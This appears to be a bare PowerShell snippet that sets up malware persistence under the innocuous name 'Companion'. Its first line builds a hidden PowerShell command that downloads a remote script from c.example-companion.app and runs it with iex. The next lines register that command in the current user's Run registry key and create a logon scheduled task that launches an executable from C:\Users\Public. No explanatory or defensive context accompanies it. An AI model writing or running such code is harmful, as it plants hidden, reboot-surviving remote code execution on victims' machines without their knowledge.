$cmd = 'powershell -w hidden -c "iex (iwr https://c.example-companion.app/s.ps1)"'
New-ItemProperty -Path "HKCU:\Software\Microsoft\Windows\CurrentVersion\Run" -Name "Companion" -Value $cmd -PropertyType String -Force
schtasks /create /sc onlogon /tn "CompanionSync" /tr "C:\Users\Public\companion.exe" /f
